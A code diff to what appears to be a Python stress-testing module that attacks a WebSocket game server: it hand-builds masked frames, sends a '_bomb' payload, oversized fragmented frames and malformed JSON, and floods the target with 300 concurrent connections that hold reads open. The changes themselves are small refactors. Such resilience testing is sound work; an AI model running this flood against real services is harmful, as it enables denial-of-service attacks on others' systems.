@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import asyncio
 import os
 import struct
 import zlib
@@ -20,7 +19,7 @@ def _frame(data: bytes, opcode: int = 1, *, packed: bool = False, last: bool = T
     size = bytes([0x80 | length]) if length < 126 else b"\xfe" + struct.pack(">H", length)
     if length > 65_535:
         size = b"\xff" + struct.pack(">Q", length)
-    return bytes([first]) + size + mask + bytes(each ^ mask[at % 4] for at, each in enumerate(data))
+    return bytes([first]) + size + mask + bytes(byte ^ mask[at % 4] for at, byte in enumerate(data))
 
 
 def _bomb() -> bytes:
@@ -31,8 +30,8 @@ def _bomb() -> bytes:
 
 async def attack(target: Target) -> None:
     bomb, hello, word = _bomb(), _frame(b'{"key": null}'), _frame(b"x" * 100)
-    _, made = await target.ask("POST", "/api/games", {"opponent": "bot"})
-    game = made["id"] if made else "x"
+    _, created = await target.ask("POST", "/api/games", {"opponent": "bot"})
+    game = created["id"] if created else "x"
 
     async def one(attacker: int) -> None:
         reader, writer = await target.connect(attacker % 30)
@@ -54,10 +53,9 @@ async def attack(target: Target) -> None:
                     target.seen["20 words"] += 1
             elif attacker % 4 == 3:
                 writer.write(hello + _frame(b"y" * 3000, last=False) + _frame(b"y" * 3000, 0, last=False) * 100)
-            while target.goes_on and await reader.read(65_536):
-                pass
+            await target.hold(reader)
         finally:
             writer.close()
-        await asyncio.sleep(2)
+        await target.rest(2)
 
     await target.flood(300, one)
